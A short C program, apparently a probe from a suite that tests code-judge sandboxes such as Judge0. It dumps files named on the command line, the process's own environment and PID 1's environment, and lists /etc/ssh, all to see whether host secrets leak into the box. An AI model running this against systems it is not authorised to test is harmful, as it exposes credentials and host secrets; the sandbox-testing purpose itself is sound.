/* Reads the host's secrets that a judge binds into the box: /etc (as
 * Judge0 does), a root-only directory, and its own environment.
 * argv: files to read. */
#include "atk.h"

int main(int argc, char **argv)
{
	for (int i = 1; i < argc; i++)
		dump(argv[i]);
	dump("/proc/self/environ");
	dump("/proc/1/environ");
	listdir("/etc/ssh");
	done();
	return 0;
}
